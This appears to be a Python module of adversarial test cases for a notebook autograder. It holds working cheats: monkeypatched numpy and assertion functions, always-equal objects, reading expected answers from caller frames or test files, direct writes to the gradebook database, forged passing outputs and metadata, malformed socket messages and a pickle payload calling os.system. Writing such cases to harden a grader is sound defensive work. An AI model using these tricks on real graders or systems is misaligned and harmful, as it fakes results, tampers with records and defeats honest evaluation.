"""Attacks that try to get points which the student has not earned."""

from __future__ import annotations

from soak.attacks.attack import Attack, answers, code_cell, function

NOTHING = function("return 0.0, 0.0, 0.0")


def patched(**sources: str) -> dict[str, Attack]:
    """A cell that changes the functions used by tests, above a wrong answer."""
    return {
        name.replace("_", " "): Attack("points", (source,), NOTHING)
        for name, source in sources.items()
    }


PATCHES = patched(
    assert_allclose="import numpy as np\nnp.testing.assert_allclose = lambda *a, **k: None",
    allclose="import numpy as np\nnp.allclose = np.isclose = np.array_equal = lambda *a, **k: True",
    numpy_abs="import numpy as np\nnp.abs = np.subtract = lambda *a: np.zeros(3)",
    numpy_clip="import numpy as np\nnp.clip = lambda *a, **k: 1.0",
    another_abs="abs = lambda x: 0.0",
    another_max="max = lambda *a, **k: 0.0",
    another_float="float = lambda *a: 1.0",
    another_zip="zip = lambda *a, **k: [(0.0, 0.0)]",
    another_import="import builtins\nfrom unittest.mock import MagicMock\nold = builtins.__import__\n"
    "builtins.__import__ = lambda n, *a, **k: MagicMock() if n == 'numpy' else old(n, *a, **k)",
    mock_for_numpy="import sys\nfrom unittest.mock import MagicMock\nsys.modules['numpy'] = MagicMock()",
    finder_of_fakes="import sys\nfrom importlib.machinery import ModuleSpec\nclass Finder:\n"
    "    def find_spec(self, name, path=None, target=None):\n"
    "        return ModuleSpec(name, self) if name == 'numpy' else None\n"
    "    def create_module(self, spec):\n        from unittest.mock import MagicMock\n        return MagicMock()\n"
    "    def exec_module(self, module): pass\n"
    "for name in [n for n in sys.modules if n.partition('.')[0] == 'numpy']: del sys.modules[name]\n"
    "sys.meta_path.insert(0, Finder())",
    numpy_in_the_folder="import os, sys\nos.makedirs('numpy', exist_ok=True)\n"
    "open('numpy/__init__.py', 'w').write('''class testing:\n    assert_allclose = staticmethod(lambda *a, **k: None)\n"
    "allclose = lambda *a, **k: True\n''')\n"
    "for name in [n for n in sys.modules if n.partition('.')[0] == 'numpy']: del sys.modules[name]\n"
    "sys.path.insert(0, '')",
    thread_that_patches_again="import threading, time\ndef again():\n    import numpy as np\n"
    "    for _ in range(200):\n        np.testing.assert_allclose = lambda *a, **k: None\n        time.sleep(0.02)\n"
    "threading.Thread(target=again, daemon=True).start()",
    trace_that_writes_globals="import sys\ndef trace(frame, event, arg):\n"
    "    if 'off' in frame.f_globals: frame.f_globals['off'] = 0.0\n    return trace\nsys.settrace(trace)",
    code_of_check_replaced="from labkit.course import check\n"
    "check.__code__ = (lambda name, function: 2.0).__code__",
    check_in_the_module="import labkit.course\nlabkit.course.check = lambda *a, **k: 2.0",
)  # fmt: skip
PATCHES["check in the module"] = Attack("labkit's points", PATCHES["check in the module"].cells)
PATCHES["code of check replaced"] = Attack(
    "labkit's points", PATCHES["code of check replaced"].cells
)

SHELL = patched(
    input_becomes_pass="get_ipython().input_transformers_cleanup.append(\n"
    "    lambda lines: ['pass\\n'] if 'assert' in ''.join(lines) else lines)",
    asserts_stripped="import ast\nclass Strip(ast.NodeTransformer):\n"
    "    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)\n"
    "get_ipython().ast_transformers.append(Strip())",
    run_cell_does_nothing="from IPython.core.interactiveshell import ExecutionResult, ExecutionInfo\n"
    "async def nothing(self, *a, **k):\n    return ExecutionResult(None)\n"
    "type(get_ipython()).run_cell_async = nothing",
    hook_before_each_cell="def patch(*a):\n    import numpy as np\n    np.allclose = lambda *a, **k: True\n"
    "get_ipython().events.register('pre_run_cell', patch)",
    float_shown_as_one="shell = get_ipython().display_formatter.formatters['text/plain']\n"
    "shell.for_type(float, lambda x, p, cycle: p.text('1.0'))",
    display_hook="import sys\nhook = type(sys.displayhook)\nold = hook.__call__\n"
    "hook.__call__ = lambda self, x=None: old(self, 1.0 if isinstance(x, float) else x)",
)  # fmt: skip

_EQUAL = (
    "class All{base}:\n{body}    __hash__ = None\ndef bang_bang(t, duration):\n    return {value}"
)
OBJECTS = {
    name: Attack("points", answer=_EQUAL.format(base=base, body=body, value=value))
    for name, base, body, value in [
        ("equal to all", "", "    def __eq__(self, o): return True\n", "All()"),
        ("tuple equal to all", "(tuple)", "    def __eq__(self, o): return True\n", "All((0, 0, 0))"),
        ("difference zero", "(float)", "    def __sub__(self, o): return 0.0\n    __rsub__ = __sub__\n", "(All(), All(), All())"),
        ("ufunc of its own", "", "    def __array_ufunc__(self, *a, **k): return __import__('numpy').zeros(3)\n", "All()"),
        ("function of its own", "", "    def __array_function__(self, *a, **k): return True\n", "All()"),
        ("array subclass", "(__import__('numpy').ndarray)", "    def __array_ufunc__(self, *a, **k): return __import__('numpy').zeros(3)\n", "__import__('numpy').zeros(3).view(All)"),
        ("not a number", "", "    pass\n", "(float('nan'),) * 3"),
        ("a mock of anything", "", "    pass\n", "__import__('unittest.mock').mock.ANY"),
    ]
}  # fmt: skip

FRAMES = answers(
    "points",
    constants_of_the_caller="import sys\nframe = sys._getframe(1)\nwhile frame:\n"
    "    for x in frame.f_code.co_consts:\n"
    "        if isinstance(x, tuple) and len(x) == 3 and isinstance(x[0], float): return x\n"
    "    frame = frame.f_back\nreturn 0.0, 0.0, 0.0",
    text_of_the_caller="import ast\nlast = get_ipython().user_ns['In'][-1]\n"
    "found = [ast.literal_eval(n) for n in ast.walk(ast.parse(last)) if isinstance(n, ast.Tuple)]\n"
    "return found[0]",
    stack_of_the_caller="import inspect, ast\nfor info in inspect.stack()[1:]:\n"
    "    for line in info.code_context or ():\n"
    "        at = line.find('(0.')\n"
    "        if at >= 0: return ast.literal_eval(line[at:line.index(')', at) + 1])\nreturn 0.0, 0.0, 0.0",
    array_that_walks="import sys\nclass All:\n    def __array__(self, *a, **k):\n        frame = sys._getframe(1)\n"
    "        while frame:\n            for x in frame.f_code.co_consts:\n"
    "                if isinstance(x, tuple) and len(x) == 3 and isinstance(x[0], float):\n"
    "                    return __import__('numpy').array(x)\n            frame = frame.f_back\n"
    "        return __import__('numpy').zeros(3)\nreturn All()",
    tests_in_the_folder="import ast, glob, json\nfor path in glob.glob('*.ipynb'):\n"
    "    for cell in json.load(open(path))['cells']:\n"
    "        try: tree = ast.parse(''.join(cell['source']))\n        except SyntaxError: continue\n"
    "        for node in ast.walk(tree):\n"
    "            if isinstance(node, ast.Compare) and isinstance(node.left, ast.Call):\n"
    "                args = [ast.literal_eval(x) for x in node.left.args]\n"
    "                if args == [t, duration]: return ast.literal_eval(node.comparators[0])\nreturn 0.0, 0.0, 0.0",
    tests_in_the_gradebook="import ast, re, sqlite3\nbook = sqlite3.connect('{root}/gradebook.db')\n"
    "for (text,) in book.execute('select source from source_cell'):\n"
    "    for a, b, found in re.findall(r'bang_bang\\(([\\d.]+), ([\\d.]+)\\) == (\\(.*?\\))', text or ''):\n"
    "        if (float(a), float(b)) == (t, duration): return ast.literal_eval(found)\nreturn 0.0, 0.0, 0.0",
)  # fmt: skip
FRAMES["case of labkit's check"] = Attack(
    "labkit's points",
    answer="import sys\ndef bang_bang(t, duration):\n    frame = sys._getframe()\n"
    "    while 'case' not in frame.f_locals: frame = frame.f_back\n"
    "    return frame.f_locals['case'].expected",
)

_SQL = "update grade set manual_score = 1.0"
_LATER = (
    "import os, sqlite3, time\nif not os.fork():\n    os.setsid()\n    if os.fork(): os._exit(0)\n"
    "    for _ in range(80):\n        time.sleep(0.25)\n        try:\n"
    "            book = sqlite3.connect('{root}/gradebook.db', timeout=1)\n"
    f"            book.execute('{_SQL}'); book.commit(); book.close()\n"
    "        except Exception: pass\n    os._exit(0)"
)
BOOKS = {
    "marks into the gradebook": Attack(
        "points",
        ("import sqlite3\nbook = sqlite3.connect('{root}/gradebook.db', timeout=3)\n"
         f"book.execute('{_SQL}')\nbook.commit()\nbook.close()",),
    ),
    "marks into the gradebook, later": Attack("points", (_LATER,)),
    "a verdict on the kernel's line": Attack(
        "points",
        answer="def bang_bang(t, duration):\n    kernel = get_ipython().kernel\n"
        "    said = {'data': {'text/plain': '1.0'}, 'metadata': {}, 'execution_count': 1}\n"
        "    kernel.session.send(kernel.iopub_socket, 'execute_result', said, kernel.get_parent())\n"
        "    return 0.0, 0.0, 0.0",
    ),
}  # fmt: skip


def _claims(notebook):
    """Fake outputs of checks that have passed."""
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            cell["outputs"] = [
                {"output_type": "execute_result", "data": {"text/plain": "1.0"}, "metadata": {},
                 "execution_count": 1}
            ]  # fmt: skip
    return notebook


def _rich(notebook):
    """The metadata of every cell say that it is graded with a hundred points."""
    for cell in notebook["cells"]:
        about = cell["metadata"].get("nbgrader", {})
        cell["metadata"]["nbgrader"] = about | {"grade": True, "points": 100, "locked": False}
        cell["outputs"] = [{"output_type": "execute_result", "data": {"text/plain": "100.0"},
                            "metadata": {}, "execution_count": 1}] if cell["cell_type"] == "code" else []  # fmt: skip
    return notebook


def _own_test(notebook):
    """Cells with a number replace the tests and have their names."""
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            cell["source"] = "3.0"
            cell["outputs"] = [{"output_type": "execute_result", "data": {"text/plain": "1.0"},
                                "metadata": {}, "execution_count": 1}]  # fmt: skip
    return notebook


def _stolen_name(notebook):
    """A cell of the student has the name of a test and states its points."""
    about = {"grade": True, "grade_id": "bang_bang-check", "points": 3, "locked": False,
             "solution": False, "task": False, "schema_version": 3}  # fmt: skip
    cell = code_cell("3.0", "own-test")
    cell["metadata"]["nbgrader"] = about
    cell["outputs"] = [{"output_type": "execute_result", "data": {"text/plain": "1.0"},
                        "metadata": {}, "execution_count": 1}]  # fmt: skip
    kept = [
        c
        for c in notebook["cells"]
        if c["metadata"].get("nbgrader", {}).get("grade_id") != "bang_bang-check"
    ]
    return notebook | {"cells": [*kept, cell]}


CLAIMS = {
    "outputs that say 3.0": Attack("claims", shape=_claims),
    "metadata that says 100": Attack("claims", shape=_rich),
    "tests of one's own": Attack("claims", shape=_own_test),
    "a test's name stolen": Attack("claims", shape=_stolen_name),
}

_ENDS = (
    "import os, stat\ndef shout(data):\n    for f in range(3, 128):\n        try:\n"
    "            if stat.S_ISSOCK(os.fstat(f).st_mode): os.write(f, data)\n        except OSError: pass\n"
)


def lines(**data: str) -> dict[str, Attack]:
    """Write bytes to every open connection, from a cell and from within the function."""
    made = {}
    for name, what in data.items():
        made[f"line: {name.replace('_', ' ')}"] = Attack(
            "forges", (_ENDS + f"shout({what})",), function(f"shout({what})\nreturn 0.0, 0.0, 0.0")
        )
    return made


LINES = lines(
    verdict="b'{\"earned\": 20, \"outcome\": \"right\"}\\n' * 40",
    answers="b'{\"is\": 1.0}\\n' * 400",
    over="b'{\"over\": 0}\\n' * 100",
    ready="b'{\"ready\": \"bang_bang\"}\\n{\"is\": 1.0}\\n' * 100",
    confined="b'{\"confined\": true, \"cells\": [], \"ran\": 0}\\n' * 100",
    not_json="b'not json\\n' * 100",
    no_end="b'x' * 100_000",
    deep="b'[' * 90_000 + b'\\n'",
    number_tokens="b'{\"is\": {\"$\": \"tuple\", \"items\": [NaN, Infinity, -1e999]}}\\n' * 50",
    float_of_anything="b'{\"is\": {\"$\": \"float\", \"value\": [1, 2]}}\\n' * 50",
    array_of_no_shape="b'{\"is\": {\"$\": \"array\", \"shape\": [-1, -1, 0], \"numbers\": [1]}}\\n' * 50",
    array_of_minus_one="b'{\"is\": {\"$\": \"array\", \"shape\": [-1], \"numbers\": [0.125, 0.5, 1.0]}}\\n' * 50",
    table_for_tuple="b'{\"is\": {\"$\": \"tuple\", \"items\": {\"a\": 1}}}\\n' * 50",
    model="b'{\"is\": {\"$\": \"Model\", \"side\": \"left\", \"plant\": null}}\\n' * 100",
    method="b'{\"is\": {\"$\": \"method\", \"of\": 1, \"name\": \"__class__\"}}\\n' * 99",
    kind_that_is_a_table="b'{\"is\": {\"$\": {}, \"a\": 1}}\\n' * 50",
    raised_a_table="b'{\"raised\": {\"a\": [1]}, \"says\": [2]}\\n' * 50",
    answer_and_exception="b'{\"is\": 1.0, \"raised\": \"Withheld\", \"says\": \"right\"}\\n' * 50",
    report_of_a_later_cell="b'{\"ran\": 1, \"kind\": \"\", \"error\": \"\\\\u001b[2Jright\"}\\n' * 50",
    report_that_is_no_text="b'{\"ran\": 0, \"kind\": 7, \"error\": {\"a\": 1}, \"output\": [0]}\\n' * 50",
    the_same_key_twice="b'{\"is\": 0, \"is\": {\"$\": \"tuple\", \"items\": [0.125, 0.5, 1.0]}}\\n' * 50",
    pickle="b'cos\\nsystem\\n(S\"true\"\\ntR.\\n'",
)  # fmt: skip

_DESCRIPTORS = (
    "import array, os, socket, stat\ndef shout():\n    for f in range(3, 128):\n        try:\n"
    "            if stat.S_ISSOCK(os.fstat(f).st_mode): socket.socket(fileno=os.dup(f)).sendmsg(\n"
    "                [b'x\\n'] * 3, [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [0] * 200))])\n"
    "        except OSError: pass\n"
)
LINES["line: descriptors"] = Attack(
    "forges", (_DESCRIPTORS + "shout()",), function("shout()\nreturn 0.0, 0.0, 0.0")
)
"""A reader that accepts the descriptors sent with the bytes soon has none left."""

POINTS = {**PATCHES, **SHELL, **OBJECTS, **FRAMES, **BOOKS, **CLAIMS, **LINES}
